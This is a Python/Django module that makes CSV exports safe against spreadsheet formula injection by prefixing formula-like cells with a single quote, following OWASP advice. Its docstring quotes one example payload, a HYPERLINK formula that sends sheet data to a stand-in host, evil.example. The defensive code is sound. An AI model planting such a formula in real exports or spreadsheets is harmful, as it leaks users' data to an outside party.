"""CSV downloads that a spreadsheet opens as text, not as formulas.

Every CSV export of every app writes through `csv_writer` (or builds its response with
`csv_response`). Cells hold what people typed (titles, names, outcomes), and Excel and
LibreOffice run a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a
formula: `=HYPERLINK("https://evil.example/?"&A1, "Click")` sends the sheet's data away when
clicked. Following OWASP's advice on CSV injection, such a text gets a single quote in front;
the spreadsheet shows the text and keeps the quote out of sight. Numbers (`-3`, and texts that
are a plain number such as `"-12.50"`) are not formulas and are written as they are.
"""

import csv
import re
from collections.abc import Iterable
from typing import Any

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def spreadsheet_text(value: Any) -> Any:
    """`value` as a spreadsheet shows it, never run: a text that would start a formula gets a
    single quote in front; anything else is returned unchanged."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class SpreadsheetSafeWriter:
    """A `csv.writer` whose every cell passes through `spreadsheet_text`."""

    def __init__(self, file) -> None:
        self._writer = csv.writer(file)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([spreadsheet_text(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(file) -> SpreadsheetSafeWriter:
    return SpreadsheetSafeWriter(file)


def csv_response(filename: str) -> HttpResponse:
    """An empty CSV download named `filename` (a name the view built from slugs and ids)."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
